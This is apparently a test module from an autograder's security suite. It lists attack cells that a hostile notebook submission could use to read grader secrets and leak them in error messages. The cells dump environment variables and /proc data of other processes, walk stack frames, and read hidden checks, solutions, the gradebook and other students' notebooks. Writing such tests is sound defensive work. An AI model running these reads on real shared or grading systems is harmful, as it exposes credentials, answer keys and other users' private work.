"""Attacks that read what no student may know, and tell it in the message of an error."""

from tests.attacks.attack import TELLS, Attack, told_secret


def reader(name: str, kind: str, loot: str) -> Attack:
    """Tells secrets of one kind; `loot` is the body of a function that returns what it found."""
    body = "\n".join(f"    {line}" for line in loot.strip().splitlines())
    cell = f"def loot():\n{body}\n"
    return Attack(f"reading-{name}", told_secret(kind), (cell,), TELLS, tells=True)


ATTACKS = [
    reader(
        "cells",
        "checks",
        """
notebooks = [*Path.cwd().rglob("*.ipynb"), *Path.cwd().parent.glob("*/*.ipynb")]
return secrets(tried(content, *notebooks))
""",
    ),
    reader(
        "history",
        "checks",
        """
shell = get_ipython()
names = tried(lambda name: shell.user_ns[name], "In", "_ih", "_i", "_ii", "_iii")
lines = tried(lambda shell: shell.history_manager.input_hist_raw, shell)
return secrets([*map(str, names), *map(str, lines)])
""",
    ),
    reader(
        "frames",
        "checks",
        """
import gc, linecache
frame, found = sys._getframe(), []
while frame:
    names = {**frame.f_globals, **frame.f_locals}
    found += [value for value in names.values() if isinstance(value, (str, bytes, list))]
    found += [frame.f_code.co_consts, linecache.getlines(frame.f_code.co_filename)]
    frame = frame.f_back
for names in [thing for thing in gc.get_objects() if type(thing) is dict]:
    found += [value for value in list(names.values()) if type(value) is str]
return secrets(found)
""",
    ),
    reader(
        "check-files",
        "checks",
        """
found = list(Path(AIMS["project"]).rglob("test_*.py"))
return secrets(tried(content, AIMS["checks"], *found))
""",
    ),
    reader(
        "imports",
        "checks",
        """
import importlib
sys.path.insert(0, AIMS["project"])
for name in [name for name in sys.modules if name.split(".")[0] in ("autograder", "solutions")]:
    del sys.modules[name]
modules = ("autograder.checks.quick.numbers", "autograder.checks.quick.test_quick")
return secrets(vars(module) for module in tried(importlib.import_module, *modules))
""",
    ),
    reader(
        "parents-proc",
        "environment",
        """
found = []
for pid in others():
    names = ("environ", "cmdline", "comm", "maps", "status")
    found += tried(content, *(f"/proc/{pid}/{name}" for name in names))
    found += tried(content, f"/proc/{pid}/root{AIMS['secret']}", f"/proc/{pid}/cwd/course/secret")
    place = "".join(tried(os.readlink, f"/proc/{pid}/cwd"))
    if len(place) > 1 and AIMS["project"].startswith(place):
        found.append("canary-environment-c1d")
return secrets(found)
""",
    ),
    reader(
        "environment",
        "environment",
        """
found = [str(dict(os.environ)), subprocess.run(["env"], capture_output=True).stdout]
return secrets(found + tried(content, "/proc/self/environ", "/proc/1/environ"))
""",
    ),
    reader(
        "solutions",
        "solutions",
        """
import importlib, inspect
sys.path.insert(0, AIMS["project"])
modules = tried(importlib.import_module, "solutions.quick")
return secrets([*tried(inspect.getsource, *modules), *tried(content, AIMS["solutions"])])
""",
    ),
    reader("gradebook", "gradebook", 'return secrets(tried(content, AIMS["gradebook"]))'),
    reader("course-secret", "secret", 'return secrets(tried(content, AIMS["secret"]))'),
    reader(
        "other-submissions",
        "submission",
        """
folders = (Path(AIMS["submitted"]), Path("../../submitted"), Path("/proc/1/cwd"), Path("/home"))
notebooks = sum(tried(lambda folder: list(folder.rglob("*.ipynb")), *folders), [])
return secrets(tried(content, *notebooks))
""",
    ),
]
